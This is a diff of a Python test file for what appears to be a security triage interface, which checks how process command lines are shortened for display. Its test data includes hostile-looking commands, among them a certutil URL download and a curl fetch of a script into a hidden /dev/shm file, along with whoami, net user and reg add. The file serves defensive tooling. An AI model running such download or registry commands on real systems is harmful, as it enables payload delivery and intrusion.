@@ -8,15 +8,17 @@ from hypothesis import strategies as st
 
 from engine.paths import fold
 from tests.tui.test_sentences import ACTS
-from tui.words.commands import account, command_spans, plain_name, short_host
-from tui.words.finding_row import cut
 from tui.words.spans import cells, text_of
+from tui.words.triage.commands import account, command_spans, plain_name, short_host
+from tui.words.triage.finding_row import cut
 from tui.words.words import base
 
 WINDOWS = "C:\\Windows\\System32\\"
 SHOWN = [
     (f"{WINDOWS}cmd.exe", f"{WINDOWS}cmd.exe /c whoami /all", "cmd: whoami /all"),
     (f"{WINDOWS}cmd.exe", 'cmd.exe /q /c "net user"', "cmd: net user"),
+    (f"{WINDOWS}cmd.exe", 'cmd /c "reg add "HKLM\\A B" /f"', 'cmd: reg add "HKLM\\A B" /f'),
+    ("/usr/bin/dash", "sh -c 'a' 'b'", "sh: 'a' 'b'"),
     (f"{WINDOWS}certutil.exe", "certutil -urlcache -f http://x/a a", "certutil -urlcache -f http://x/a a"),
     ("/usr/bin/dash", "sh -c 'curl -s http://192.0.2.7/x.sh -o /dev/shm/.x'", "sh: curl -s http://192.0.2.7/x.sh -o /dev/shm/.x"),
     ("/usr/bin/bash", "/bin/bash -lc id", "bash: id"),
